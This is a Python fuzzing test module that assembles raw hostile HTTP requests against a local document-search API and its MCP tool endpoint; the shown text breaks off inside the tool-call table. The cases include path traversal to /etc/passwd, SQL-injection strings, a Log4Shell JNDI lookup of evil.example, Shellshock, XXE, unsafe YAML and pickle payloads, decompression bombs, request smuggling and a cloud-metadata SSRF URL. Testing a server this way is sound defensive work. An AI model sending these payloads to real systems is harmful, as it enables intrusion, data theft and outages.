"""A table of hostile requests, byte by byte: each is sent as it is, with a good key in place of KEY."""

import gzip
import io
import json
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

KEY = b"@KEY@"
JSON = {"content-type": "application/json"}
UPGRADE = {
    "connection": "Upgrade",
    "upgrade": "websocket",
    "sec-websocket-version": "13",
    "sec-websocket-key": "dGhlIHNhbXBsZSBub25jZQ==",
}
QUESTION = b'{"question": "harbour"}'
QUERY = b'{"query": "harbour"}'


@dataclass(frozen=True)
class Case:
    """A request; `closes` if the connection may end without an answer, `half` if the client ends its half."""

    name: str
    sent: bytes
    closes: bool = False
    half: bool = False

    @property
    def is_head(self) -> bool:
        """True where the answer has no body."""
        return self.sent.startswith(b"HEAD ")


def request(
    method: str,
    path: str | bytes,
    headers: dict[str, str | bytes] | None = None,
    body: bytes = b"",
    *,
    key: bool = True,
    host: str | bytes | None = "localhost",
    length: bool = True,
) -> bytes:
    """Return a request as bytes; `headers` replace those it would have."""
    given: dict[str, str | bytes] = {} if host is None else {"host": host}
    given |= {"authorization": b"Bearer " + KEY} if key else {}
    given |= {"content-length": str(len(body))} if length and (body or method not in ("GET", "HEAD")) else {}
    given |= headers or {}
    lines = b"".join(b"%s: %s\r\n" % (name.encode(), _bytes(value)) for name, value in given.items())
    return b"%s %s HTTP/1.1\r\n%s\r\n%s" % (method.encode(), _bytes(path), lines, body)


def _bytes(text: str | bytes) -> bytes:
    return text.encode() if isinstance(text, str) else text


def raw(head: bytes, body: bytes = b"", first: bytes = b"POST /api/ask HTTP/1.1") -> bytes:
    """Return a request with a key and these lines of a head."""
    return b"%s\r\nHost: localhost\r\nAuthorization: Bearer %s\r\n%s\r\n\r\n%s" % (first, KEY, head, body)


def cases() -> list[Case]:
    """Return the table."""
    return [
        *(Case(f"protocol: {name}", sent, closes=True) for name, sent in _protocol()),
        *(Case(f"length: {name}", sent, closes=True) for name, sent in _lengths()),
        *(Case(f"chunks: {name}", sent, closes=True) for name, sent in _chunks()),
        *(Case(f"cut off: {name}", sent, closes=True, half=True) for name, sent in _cut_off()),
        *(Case(f"head too large: {name}", sent, closes=True) for name, sent in _large_heads()),
        *(Case(f"upgrade: {name}", sent) for name, sent in _upgrades()),
        *(Case(f"host: {name}", sent) for name, sent in _hosts()),
        *(Case(f"header: {name}", sent) for name, sent in _headers()),
        *(Case(f"range: {name}", sent) for name, sent in _ranges()),
        *(Case(f"path: {name}", sent) for name, sent in _paths()),
        *(Case(f"query: {name}", sent) for name, sent in _queries()),
        *(Case(f"body: {name}", sent) for name, sent in _bodies()),
        *(Case(f"encoding: {name}", sent) for name, sent in _encodings()),
        *(Case(f"form: {name}", sent) for name, sent in _forms()),
        *(Case(f"file: {name}", sent) for name, sent in _files()),
        *(Case(f"tools: {name}", sent) for name, sent in _tools()),
        *(Case(f"several: {name}", sent) for name, sent in _several()),
    ]


def _protocol() -> Iterator[tuple[str, bytes]]:
    good = request("GET", "/api/collections")
    yield "null bytes", b"\x00" * 64 + b"\r\n\r\n"
    yield "a TLS greeting", bytes.fromhex("16030100c8010000c40303") + b"\xaa" * 189 + b"\r\n\r\n"
    yield "HTTP/0.9", b"GET /api/collections\r\n\r\n"
    yield "the preface of HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    yield "HTTP/9.9", good.replace(b"HTTP/1.1", b"HTTP/9.9")
    yield "HTTP/1.0 without a host", b"GET /api/collections HTTP/1.0\r\n\r\n"
    yield "a version in lower case", good.replace(b"HTTP/1.1", b"http/1.1")
    yield "another protocol", b"EHLO localhost\r\nMAIL FROM:<a@b.example>\r\n\r\n"
    yield "tabs in the first line", good.replace(b" ", b"\t", 2)
    yield "two spaces in the first line", good.replace(b" ", b"  ", 2)
    yield "line feeds alone", good.replace(b"\r\n", b"\n")
    yield "carriage returns alone", good.replace(b"\r\n", b"\r") + b"\r\n\r\n"
    yield "a thousand empty lines first", b"\r\n" * 1000 + good
    yield "a method in lower case", good.replace(b"GET", b"get")
    yield "a method of 10,000 letters", good.replace(b"GET", b"G" * 10_000)
    yield "a null in the method", good.replace(b"GET", b"G\x00T")
    yield "a null in the path", good.replace(b"/api/collections", b"/api/\x00collections")
    yield "a header without a colon", good.replace(b"Bearer", b"Bearer\r\nnothing")
    yield "a space before the colon", good.replace(b"host:", b"host :")
    yield "a folded header", good.replace(b"Bearer ", b"Bearer\r\n ")
    yield "a null in a header", good.replace(b"localhost", b"local\x00host")
    yield "a carriage return in a header", good.replace(b"localhost", b"local\rhost")
    yield "a header without a name", good.replace(b"host:", b": a\r\nhost:")
    yield "a header named in Korean", good.replace(b"host:", "등대: a\r\nhost:".encode())
    yield "a header of control characters", good.replace(b"localhost", b"\x01\x02\x7f")
    yield "a connection to elsewhere", b"CONNECT internal.example:22 HTTP/1.1\r\nHost: localhost\r\n\r\n"
    yield (
        "an upgraded connection to elsewhere",
        raw(b"Connection: Upgrade\r\nUpgrade: websocket", first=b"CONNECT localhost:22 HTTP/1.1"),
    )


def _lengths() -> Iterator[tuple[str, bytes]]:
    wrong = (b"-1", b"+5", b"0x10", b"5 5", b"5, 5", b"", b"abc", b"5.0", b"1e3", b"9" * 40, b"\xb2")
    for length in wrong:
        yield repr(length), raw(b"Content-Length: " + length, QUESTION)
    yield "twice the same", raw(b"Content-Length: 23\r\nContent-Length: 23", QUESTION)
    yield "two different", raw(b"Content-Length: 5\r\nContent-Length: 23", QUESTION)
    yield "and chunks", raw(b"Content-Length: 5\r\nTransfer-Encoding: chunked", b"0\r\n\r\n")
    yield "a hundred gigabytes", raw(b"Content-Length: 99999999999")
    yield "of one gigabyte for tools", raw(b"Content-Length: 999999999", first=b"POST /mcp HTTP/1.1")


def _chunks() -> Iterator[tuple[str, bytes]]:
    chunked = b"Transfer-Encoding: chunked\r\nContent-Type: application/json"
    good = b"%x\r\n%s\r\n0\r\n" % (len(QUESTION), QUESTION)
    for size in (b"zz", b"-1", b"f" * 17, b"0x17", b"", b" 17", b"1 7"):
        yield f"of the size {size!r}", raw(chunked, size + b"\r\n" + QUESTION + b"\r\n0\r\n\r\n")
    yield "longer than they say", raw(chunked, b"2\r\n" + QUESTION + b"\r\n0\r\n\r\n")
    yield "with line feeds alone", raw(chunked, good.replace(b"\r\n", b"\n") + b"\n")
    yield (
        "with an extension of 100,000 letters",
        raw(chunked, b"%x;a=%s\r\n%s\r\n0\r\n\r\n" % (len(QUESTION), b"b" * 100_000, QUESTION)),
    )
    yield "with 10,000 trailers", raw(chunked, good + b"X: a\r\n" * 10_000 + b"\r\n")
    yield "with a trailer that is another request", raw(chunked, good + b"GET /metrics HTTP/1.1\r\n\r\n")
    yield "of one byte", raw(chunked, b"".join(b"1\r\n%c\r\n" % byte for byte in QUESTION) + b"0\r\n\r\n")
    for encoding in (
        b"gzip",
        b"gzip, chunked",
        b"chunked, chunked",
        b"identity",
        b"xchunked",
        b"chunked\x0b",
    ):
        yield f"sent as {encoding!r}", raw(b"Transfer-Encoding: " + encoding, good + b"\r\n")
    yield "in HTTP/1.0", raw(chunked, good + b"\r\n", b"POST /api/ask HTTP/1.0")
    yield "of ten megabytes", raw(chunked, b"a00000\r\n" + b" " * 0xA00000 + b"\r\n0\r\n\r\n")
    yield (
        "of ten megabytes, for tools",
        raw(chunked, b"a00000\r\n" + b" " * 0xA00000 + b"\r\n0\r\n\r\n", b"POST /mcp HTTP/1.1"),
    )


def _cut_off() -> Iterator[tuple[str, bytes]]:
    good = request("POST", "/api/ask", JSON, QUESTION)
    upload = request("POST", "/api/documents?name=a.md", {"content-length": "1000"}, b"# A\n")
    chunked = raw(b"Transfer-Encoding: chunked", b"17\r\n{")
    yield "nothing at all", b""
    yield "in the first line", good[:7]
    yield "in a header", good[:60]
    yield "before the body", good[: -len(QUESTION)]
    yield "in the body", good[:-5]
    yield "in an upload", upload
    yield "in a chunk", chunked
    yield (
        "in a form",
        _form(b"--b\r\nContent-Disposition: form-data; name=file; filename=a.md\r\n\r\n# A")[:-1],
    )
    yield "in a message to tools", request("POST", "/mcp", JSON, b'{"jsonrpc": "2.0"}')[:-3]


def _large_heads() -> Iterator[tuple[str, bytes]]:
    yield "a path", request("GET", "/api/" + "a" * 70_000)
    yield "a query", request("GET", "/api/documents?a=" + "b" * 70_000)
    yield "a header", request("GET", "/api/collections", {"x-a": "b" * 70_000})
    yield "a header name", request("GET", "/api/collections", {"x" * 70_000: "b"})
    yield "a cookie of ten megabytes", request("GET", "/api/collections", {"cookie": "b" * 10_000_000})
    yield "100,000 headers", raw(b"\r\n".join([b"X: a"] * 100_000), first=b"GET /api/collections HTTP/1.1")
    yield "a header in OpenAI's form", request("GET", "/v1/models", {"x-a": "b" * 70_000})
    yield "that never ends", b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX: " + b"a" * 5_000_000
    yield "with an upgrade", request("GET", "/api/ask", {**UPGRADE, "x-a": "b" * 70_000})


def _upgrades() -> Iterator[tuple[str, bytes]]:
    for method in ("GET", "POST", "PUT", "DELETE", "HEAD", "OPTIONS"):
        yield f"{method} to a websocket", request(method, "/api/collections", UPGRADE)
    yield "POST with a body", request("POST", "/api/search", {**JSON, **UPGRADE}, QUERY)
    yield "GET with a body", request("GET", "/api/collections", UPGRADE, b"abc")
    yield (
        "POST with chunks",
        raw(
            b"Connection: Upgrade\r\nUpgrade: websocket\r\nTransfer-Encoding: chunked", b"1\r\na\r\n0\r\n\r\n"
        ),
    )
    yield "to a websocket with a long address", request("GET", "/api/" + "a" * 9000, UPGRADE)
    yield (
        "to a websocket with a long header",
        request("GET", "/api/collections", {**UPGRADE, "x-a": "b" * 9000}),
    )
    many: dict[str, str | bytes] = {f"x-{number}": "a" for number in range(200)}
    yield "to a websocket with 200 headers", request("GET", "/api/collections", {**UPGRADE, **many})
    yield "to a websocket for tools", request("POST", "/mcp", {**JSON, **UPGRADE}, b"{}")
    yield "to a websocket nowhere", request("POST", "/nowhere", UPGRADE, b"abc")
    yield "to Streamlit's websocket", request("GET", "/_stcore/stream", UPGRADE)
    yield (
        "of an unknown version",
        request("GET", "/api/collections", {**UPGRADE, "sec-websocket-version": "99"}),
    )
    yield (
        "without a websocket's key",
        request("GET", "/api/collections", {"connection": "upgrade", "upgrade": "websocket"}),
    )
    yield (
        "to HTTP/2",
        request(
            "GET",
            "/api/collections",
            {"connection": "Upgrade, HTTP2-Settings", "upgrade": "h2c", "http2-settings": "AAMAAABkAAQAAP__"},
        ),
    )
    yield "to TLS", request("GET", "/api/collections", {"connection": "Upgrade", "upgrade": "TLS/1.0"})
    yield "to nothing", request("GET", "/api/collections", {"connection": "Upgrade", "upgrade": ""})
    yield "without a key", request("POST", "/api/ask", UPGRADE, b"abc", key=False)


def _hosts() -> Iterator[tuple[str, bytes]]:
    for host in ("evil.example", "", "localhost.evil.example", "127.0.0.1@evil.example", "a" * 10_000):
        yield repr(host[:30]), request("GET", "/api/collections", host=host)
    for host in ("[::1", "[::1]evil", "localhost:99999999", "localhost/..", b"\xff\xfe", "등대.example"):
        yield repr(host), request("GET", "/v1/models", host=host)
    yield "none", request("GET", "/api/collections", host=None)
    yield "two", raw(b"Host: evil.example", first=b"GET /api/collections HTTP/1.1")
    yield "another in the address", request("GET", "http://evil.example/api/collections")
    yield "with a forwarded one", request("GET", "/api/collections", {"x-forwarded-host": "evil.example"})
    yield "of an agent's page", request("POST", "/mcp", JSON, b"{}", host="evil.example")


def _headers() -> Iterator[tuple[str, bytes]]:
    keys: list[str | bytes] = [
        *("Bearer " + "a" * 20_000, "Bearer é", "bearer", "Bearer", "Basic Zm46Zm4=", "Bearer null"),
        *("Bearer fnk_0000000000000000_" + "A" * 43, "Bearer fnk_", "Digest username=ann", "", "Bearer  "),
        *("Bearer \t\t", b"Bearer \xff\xfe", "Bearer ' OR 1=1 --", "Bearer ${jndi:ldap://evil.example}"),
    ]
    for number, key in enumerate(keys):
        yield f"key {number}", request("POST", "/api/search", {**JSON, "authorization": key}, QUERY)
    yield "two keys", raw(b"Authorization: Bearer other", first=b"GET /api/collections HTTP/1.1")
    others: list[tuple[str, str | bytes]] = [
        ("idempotency-key", "a" * 5000),
        ("idempotency-key", ""),
        ("idempotency-key", "é"),
        ("idempotency-key", "' OR 1=1 --"),
        ("x-footnote-person", "ann"),
        ("x-forwarded-for", "127.0.0.1, " * 1000),
        ("x-http-method-override", "DELETE"),
        ("cookie", "a=b; " * 5000),
        ("cookie", b"\xf0\x9f\x92\xa9=\xff"),
        ("accept", "*/*;q=" + "9" * 1000),
        ("accept", "text/html;q=nan, a"),
        ("accept-language", "zz-ZZ;q=" + "1" * 5000),
        ("accept-encoding", "gzip;q=-1, br;q=x, *"),
        ("origin", "null"),
        ("traceparent", "00-" + "z" * 500),
        ("expect", "100-continue"),
        ("expect", "200-ok"),
        ("connection", "close, keep-alive, " * 100),
        ("keep-alive", "timeout=999999999"),
        ("if-match", "*"),
        ("if-modified-since", "the day before yesterday"),
        ("te", "trailers, deflate;q=0.5"),
        ("max-forwards", "-1"),
        ("referer", "file:///etc/passwd"),
        ("user-agent", "() { :; }; /bin/true"),
    ]
    for number, (name, value) in enumerate(others):
        sent = request("POST", "/api/documents?name=note.md", {name: value}, b"# Note\n\nA note.\n")
        yield f"{name} {number}", sent
    for kind in (
        *("", "/", "application/", "application/json; charset=utf-7", "application/json; charset=\x7f"),
        *("text/html", "application/json, text/plain", "a" * 5000, b"\xff/\xfe", "multipart/form-data"),
        *("application/x-www-form-urlencoded", "application/xml", "application/octet-stream"),
    ):
        yield f"content-type {kind[:40]!r}", request("POST", "/api/search", {"content-type": kind}, QUERY)


def _ranges() -> Iterator[tuple[str, bytes]]:
    for given in ("bytes=0-0", "bytes=-1", "bytes=999999999999-", "bytes=5-1", "bytes=" + "0-0," * 5000):
        yield given[:20], request("GET", "/api/documents", {"range": given})
    for given in ("items=0-5", "bytes=a-b", "bytes=-", "bytes=0-18446744073709551616", "lines"):
        yield given, request("GET", "/api/openapi.json", {"range": given, "if-range": '"x"'})


def _paths() -> Iterator[tuple[str, bytes]]:
    for path in (
        *(
            "/api/documents/../../etc/passwd",
            "/api/documents/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "/api/%2e%2e/metrics",
        ),
        *(
            "/api/documents/%00",
            "/api/documents/%ff%fe/text",
            "/api//documents",
            "/api/documents//",
            "//api/documents",
        ),
        *("/api/documents/1/pages/99999999999999999999/image", "/api/documents/1/pages/-1/image"),
        *(
            "/api/documents/1/pages/0x1/image",
            "/api/documents/1/pages/1e3/image",
            "/api/documents/1/pages/½/image",
        ),
        *(
            "/api/conversations/1/export?form=exe",
            "/api/grids/1/export?form=../../a",
            "/API/documents",
            "/api",
        ),
        *(
            "/api/documents;a=b",
            "/api\\documents",
            "/api/documents/%",
            "/api/documents/%zz",
            "/api/documents#a",
        ),
        *("/v1/models/" + "%F0%9F%92%A9" * 100, "/v1/models/footnote/../../x", "/v1/models//", "/v1/nowhere"),
        *(
            "/api/collections/%E2%80%AE",
            "/api/collections/" + "a" * 8000,
            "/mcp/",
            "/mcp/..",
            "/nowhere",
            "*",
            "?",
        ),
        *("/api/webhooks/%27%20OR%201%3D1", "/api/sources/%0d%0aX:%20a", "/api/grids/%F0%9F%92%A9/rows"),
        *("/api/keys", "/healthz/../metrics", "/api/documents/{document_id}", "/api/" + "a/" * 4000),
    ):
        yield path[:40], request("GET", path)
    yield "bytes that are no UTF-8", request("GET", b"/api/documents/\xff\xfe")
    yield "bytes of Korean", request("GET", "/api/documents/등대".encode())
    for method in ("BREW", "TRACE", "PROPFIND", "PATCH", "DELETE", "PUT", "HEAD", "OPTIONS", "LINK", "PURGE"):
        yield f"{method} documents", request(method, "/api/documents")
    for path in ("/v1/chat/completions", "/api/openapi.json", "/mcp", "/healthz", "/readyz", "/metrics"):
        yield f"DELETE {path}", request("DELETE", path)


def _queries() -> Iterator[tuple[str, bytes]]:
    for query in (
        *(
            "limit=-1",
            "limit=0",
            "limit=1e9",
            "limit=abc",
            "limit=" + "9" * 30,
            "limit=1&limit=2",
            "limit=",
            "limit=%00",
        ),
        *(
            "cursor=abc",
            "cursor=%00",
            "cursor=" + "a" * 5000,
            "cursor=eyJhIjogMX0",
            "cursor=%ff%fe",
            "cursor=",
        ),
        *(
            "state=gone",
            "state=ready&state=%27",
            "collection=%00",
            "collection=" + "a" * 300,
            "collection=%F0%9F",
        ),
        *(
            "a=b&" * 10_000,
            "%00=%00",
            "&&&&===",
            "limit[]=1",
            "limit[$gt]=1",
            "a" * 60_000,
            "%",
            "limit=%zz",
            "+=+",
        ),
        *("limit=1;drop", "collection=' OR 1=1 --".replace(" ", "%20"), "limit=١", "limit=0x10", "limit=1_0"),
    ):
        yield query[:30], request("GET", f"/api/documents?{query}")
    for query in ("start=-1", "end=-1", f"start={2**70}", "start=a", "start=2&end=1", "start=1e2", "end=NaN"):
        yield query, request("GET", f"/api/documents/0000000000000000/text?{query}")


def _bodies() -> Iterator[tuple[str, bytes]]:
    def ask(**more: object) -> bytes:
        return json.dumps({"question": "a", **more}).encode()

    deep = b"[" * 100_000
    sent = {
        "the letters of a surrogate": b'{"question": "\\ud800"}',
        "half a pair of surrogates": b'{"question": "\\udc00\\ud800"}',
        "a null": b'{"question": "\\u0000"}',
        "a mark of another order": "\ufeff".encode() + QUESTION,
        "UTF-16": QUESTION.decode().encode("utf-16"),
        "UTF-32": QUESTION.decode().encode("utf-32"),
        "no number": b'{"question": "a", "k": NaN}',
        "an endless number": b'{"question": "a", "k": Infinity}',
        "a number of 10,000 digits": b'{"question": "a", "k": ' + b"9" * 10_000 + b"}",
        "a number too small": b'{"question": "a", "k": 1e-400}',
        "deep lists": deep,
        "deep lists that end": deep + b"]" * 100_000,
        "deep objects": b'{"a":' * 50_000,
        "a deep field": b'{"question": "a", "history": ' + b"[" * 5000 + b"]" * 5000 + b"}",
        "100,000 fields": json.dumps({"question": "a", **dict.fromkeys(map(str, range(100_000)))}).encode(),
        "5,000 turns": ask(history=[{"role": "user", "content": "b"}] * 5000),
        "a role of its own": ask(history=[{"role": "root", "content": "b"}]),
        "2,000 documents": ask(documents=["0" * 16] * 2000),
        "a collection of 100,000 letters": ask(collections=["a" * 100_000]),
        "a prototype": ask(__proto__={"admin": True}),
        "an owner": ask(owner="bob"),
        "an operator": b'{"question": {"$gt": ""}}',
        "a question of 1,000,000 letters": json.dumps({"question": "a " * 500_000}).encode(),
        "two questions": b'{"question": "a", "question": "b"}',
        "a trailing comma": b'{"question": "a",}',
        "a comment": b'{"question": "a" /* b */}',
        "single quotes": b"{'question': 'a'}",
        "XML": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        "YAML": b"!!python/object/apply:os.system ['true']",
        "a pickle": b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x04true\x85R.",
        "five megabytes": b" " * 5_000_000,
        "nothing": b"",
    }
    for number, (name, body) in enumerate(sent.items()):
        path = ("/api/ask", "/v1/chat/completions", "/api/search", "/api/check", "/api/grids")[number % 5]
        yield f"{name}, {path}", request("POST", path, JSON, body)
    for path in ("/api/webhooks", "/api/collections"):
        yield (
            f"addresses, {path}",
            request(
                "POST", path, JSON, b'{"name": "\\u202e", "url": "http://169.254.169.254/", "events": []}'
            ),
        )
    files = json.dumps({"file": {"name": "a.md", "content": "!" * 1000}}).encode()
    yield "a file that is no base64", request("POST", "/api/check", JSON, files)


def _encodings() -> Iterator[tuple[str, bytes]]:
    bomb = gzip.compress(b'{"query": "' + b"a" * 10_000_000 + b'"}')
    sent = {"gzip": gzip.compress(QUERY), "deflate": zlib.compress(QUERY), "br": b"\x0b\x02\x80abc\x03"}
    sent |= {
        "identity": QUERY,
        "x-bzip2": b"BZh9",
        "gzip, gzip": gzip.compress(gzip.compress(QUERY)),
        "\x7f": b"a",
    }
    for name, body in sent.items():
        yield name, request("POST", "/api/search", {**JSON, "content-encoding": name}, body)
    for path in ("/api/search", "/v1/chat/completions", "/mcp", "/api/documents?name=bomb.json"):
        yield (
            f"ten megabytes in {len(bomb)} bytes, {path}",
            request("POST", path, {**JSON, "content-encoding": "gzip"}, bomb),
        )


def _form(body: bytes, boundary: str | bytes = b"b") -> bytes:
    kind = b"multipart/form-data; boundary=" + _bytes(boundary)
    return request("POST", "/api/documents", {"content-type": kind}, body)


def _forms() -> Iterator[tuple[str, bytes]]:
    def part(
        disposition: bytes = b"form-data; name=file; filename=a.md", content: bytes = b"# A\n\nA text.\n"
    ) -> bytes:
        return b"--b\r\nContent-Disposition: %s\r\n\r\n%s\r\n" % (disposition, content)

    end = b"--b--\r\n"
    whole = part() + end
    yield "no boundary", request("POST", "/api/documents", {"content-type": "multipart/form-data"}, whole)
    for boundary in (
        "",
        '""',
        "a" * 10_000,
        '"b',
        "b; boundary=c",
        "등대".encode(),
        b"\xff",
        "b\x7f",
        "--b--",
        "b ",
    ):
        yield f"the boundary {boundary[:20]!r}", _form(whole, boundary)
    yield "nothing", _form(b"")
    yield "only the end", _form(end)
    yield "no end", _form(part())
    yield "only a preamble", _form(b"a" * 100_000)
    yield "a preamble of boundaries", _form(b"--" * 100_000 + whole)
    yield "line feeds alone", _form(whole.replace(b"\r\n", b"\n"))
    yield "two files", _form(part() + part() + end)
    yield "a hundred files", _form(part() * 100 + end)
    yield "a thousand fields", _form(part(b"form-data; name=a", b"b") * 1000 + end)
    yield "a field of a megabyte", _form(part(b"form-data; name=a", b"b" * 1_100_000) + end)
    yield "no file", _form(part(b"form-data; name=a", b"b") + end)
    yield "a file that is a field", _form(part(b"form-data; name=file", b"b") + end)
    yield "a part without a head", _form(b"--b\r\n\r\na\r\n" + end)
    yield "a part without a disposition", _form(b"--b\r\nContent-Type: text/plain\r\n\r\na\r\n" + end)
    yield (
        "a part with a head of 100,000 letters",
        _form(b"--b\r\nX: " + b"a" * 100_000 + b"\r\n\r\na\r\n" + end),
    )
    yield "a part with 10,000 headers", _form(b"--b\r\n" + b"X: a\r\n" * 10_000 + b"\r\na\r\n" + end)
    yield (
        "a part in base64",
        _form(
            b"--b\r\nContent-Disposition: form-data; name=file; filename=a.md\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n!!!!\r\n" + end
        ),
    )
    yield (
        "a form in a form",
        _form(
            part(b"form-data; name=file").replace(
                b"\r\n\r\n", b"\r\nContent-Type: multipart/mixed; boundary=c\r\n\r\n", 1
            )
            + end
        ),
    )
    names = (
        *(
            b'"../../a.md"',
            b'"a\x00.md"',
            b'""',
            b'"' + b"a" * 300 + b'.md"',
            b'"\xff.md"',
            b'"C:\\a.md"',
            b'"a".md"',
        ),
        *(
            b"\"%00.md\"; filename*=utf-8''..%2F..%2Fa.md",
            '"‮fdp.md"'.encode(),
            b'"a\r.md"',
            b'"<script>.md"',
            b".",
        ),
    )
    for name in names:
        yield f"the file name {name[:20]!r}", _form(part(b"form-data; name=file; filename=" + name) + end)
    yield "an unfinished disposition", _form(part(b'form-data; name="file; filename="a') + end)
    yield "a disposition of semicolons", _form(part(b"form-data" + b";" * 50_000) + end)


def _files() -> Iterator[tuple[str, bytes]]:
    def upload(name: str, content: bytes) -> bytes:
        return request(
            "POST", f"/api/documents?name={name}", {"content-type": "application/octet-stream"}, content
        )

    zeros, few = b"0" * 30_000_000, b"0" * 300_000
    yield "of two megabytes and more", upload("large.md", b"a" * 3_000_000)
    yield "a ZIP of zeros", upload("zeros.zip", _zip({"a.txt": few}))
    yield (
        "a ZIP of ten times 30 MB",
        upload("ten.zip", _zip({f"{number}.txt": zeros for number in range(10)}, level=1)),
    )
    yield (
        "a ZIP in a ZIP in a ZIP",
        upload("nested.zip", _zip({"b.zip": _zip({"c.zip": _zip({"a.txt": few})})})),
    )
    yield "a ZIP of 5,000 files", upload("many.zip", _zip({f"{number}.txt": b"" for number in range(5000)}))
    yield (
        "a ZIP with paths",
        upload("paths.zip", _zip({"../../a.md": b"# A", "/etc/b.md": b"# B", "C:\\c.md": b"# C"})),
    )
    yield "a ZIP that is cut", upload("cut.zip", _zip({"a.txt": b"a" * 100_000})[:-40])
    yield (
        "a Word file of 30 MB",
        upload("a.docx", _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": zeros})),
    )
    yield (
        "a workbook of entities",
        upload("a.xlsx", _zip({"[Content_Types].xml": _laughs(), "xl/workbook.xml": _laughs()})),
    )
    yield "XML of entities", upload("a.xml", _laughs())
    yield "a page of a million marks", upload("a.html", b"<div>" * 300_000)
    yield "JSON a million deep", upload("a.json", b"[" * 1_000_000)
    yield "CSV of 300,000 columns", upload("a.csv", b"a," * 300_000)
    yield "a program", upload("a.exe", b"MZ" + b"\x00" * 1000)
    yield "a PDF of nothing", upload("a.pdf", b"%PDF-1.7\n" + b"%" * 1000)
    yield "null bytes", upload("a.txt", b"\x00" * 100_000)
    yield "nothing", upload("empty.txt", b"")
    for name in (
        "%00",
        "..%2f..%2fa.md",
        "a%0d%0aX:b.md",
        "%ff.md",
        "a" * 255,
        "%E2%80%AEfdp.md",
        ".",
        "%20",
    ):
        yield f"named {name[:20]}", upload(name, b"# A\n\nA text.\n")


def _laughs() -> bytes:
    entities = "".join(f'<!ENTITY a{number} "{f"&a{number - 1};" * 10}">' for number in range(1, 12))
    return f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "ha">{entities}]><a>&a11;</a>'.encode()


def _zip(files: dict[str, bytes], level: int | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _tools() -> Iterator[tuple[str, bytes]]:
    accepted: dict[str, str | bytes] = {**JSON, "accept": "application/json, text/event-stream"}

    def message(method: object = "tools/call", **more: object) -> bytes:
        return json.dumps({"jsonrpc": "2.0", "id": 1, "method": method, **more}).encode()

    def call(name: object, arguments: object) -> bytes:
        return message(params={"name": name, "arguments": arguments})

    for method in ("GET", "PUT", "PATCH", "OPTIONS", "HEAD"):
        yield method, request(method, "/mcp", {"accept": "text/event-stream"})
    yield "no accepted form", request("POST", "/mcp", JSON, message("ping"))
    yield "another accepted form", request("POST", "/mcp", {**JSON, "accept": "text/html"}, message("ping"))
    yield "plain text", request("POST", "/mcp", {**accepted, "content-type": "text/plain"}, message("ping"))
    for name, value in (
        ("mcp-session-id", "a" * 5000),
        ("mcp-session-id", "' OR 1=1 --"),
        ("mcp-protocol-version", "1999-01-01"),
        ("mcp-protocol-version", b"\xff"),
        ("mcp-protocol-version", "9999-12-31"),
        ("last-event-id", "a" * 5000),
    ):
        yield (
            f"{name} {value[:12]!r}",
            request("POST", "/mcp", {**accepted, name: value}, message("tools/list")),
        )
    bodies = {
        "nothing": b"",
        "an empty object": b"{}",
        "an empty list": b"[]",
        "a list of calls": b"[" + b",".join([message("tools/list")] * 100) + b"]",
        "half an object": b'{"jsonrpc": "2.0", "id": 1',
        "deep lists": b"[" * 100_000,
        "a deep argument": b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":'
        + b'{"a":' * 2000
        + b"1"
        + b"}" * 2001,
        "no number": b'{"jsonrpc": "2.0", "id": NaN, "method": "ping"}',
        "another version": b'{"jsonrpc": "1.0", "id": 1, "method": "ping"}',
        "no version": b'{"id": 1, "method": "ping"}',
        "the id null": message("ping", id=None),
        "an object as id": message("ping", id={"a": 1}),
        "an id of 100,000 digits": b'{"jsonrpc": "2.0", "method": "ping", "id": ' + b"9" * 100_000 + b"}",
        "an unknown method": message("secrets/list"),
        "a number as method": message(7),
        "a list as parameters": message("tools/list", params=[1, 2]),
        "resources": message("resources/read", params={"uri": "file:///etc/passwd"}),
        "prompts": message("prompts/get", params={"name": "../../etc/passwd"}),
        "a level of the log": message("logging/setLevel", params={"level": "debug"}),
        "sampling": message("sampling/createMessage", params={"messages": [], "maxTokens": 1}),
        "a result": b'{"jsonrpc": "2.0", "id": 1, "result": {}}',
        "an error": b'{"jsonrpc": "2.0", "id": 1, "error": {"code": 1, "message": "a"}}',
        "a notice": b'{"jsonrpc":"2.0","method":"notifications/progress","params":{"progress":1}}',
        "a cancellation": b'{"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":1}}',
        "a start without parameters": message("initialize"),
        "a start of another time": message(
            "initialize",
            params={
                "protocolVersion": "1999",
                "capabilities": {},
                "clientInfo": {"name": "a" * 9000, "version": ""},
            },
        ),
        "five megabytes": b" " * 5_000_000,
        "bytes that are no UTF-8": b'{"jsonrpc": "2.0", "id": 1, "method": "\xff"}',
        "an unknown tool": call("delete_everything", {}),
        "no tool": call(None, {}),
        "a tool named in Korean": call("등대" * 1000, {}),
        "no arguments": call("search_documents", {}),
        "a list as arguments": call("search_documents", ["harbour"]),
        "an object as query": call("search_documents", {"query": {"$gt": ""}}),
        "a large number": call("search_documents", {"query": "a", "k": 10**30}),
        "a number below zero": call("search_documents", {"query": "a", "k": -1}),
        "an owner": call("search_documents", {"query": "harbour", "owner": "bob"}),
        "a null": call("search_documents", {"query": "\x00"}),
        "half a pair of surrogates": call("search_documents", {"query": "\ud800"}),
        "a query of a million letters": call("search_documents", {"query": "a " * 500_000}),
        "2,000 collections": call("search_documents", {"query": "a", "collections": ["b"] * 2000}),
        "an empty question": call("ask_documents", {"question": ""}),
        "a document with a path": call("read_document", {"document_id": "../../etc/passwd"}),
        "a document with a query": call("read_document", {"document_id": "a?b#c/%00"}),
        "a start below zero": call("read_document", {"document_id": "0" * 16, "start": -1}),
        "a start of 70 bits": call("read_document", {"document_id": "0" * 16, "start": 2**70}),
        "an end before the start": call("read_passage", {"document_id": "0" * 16, "start": 9, "end": 1}),
        "a cursor": call("list_documents", {"cursor": "\x00' OR 1=1"}),
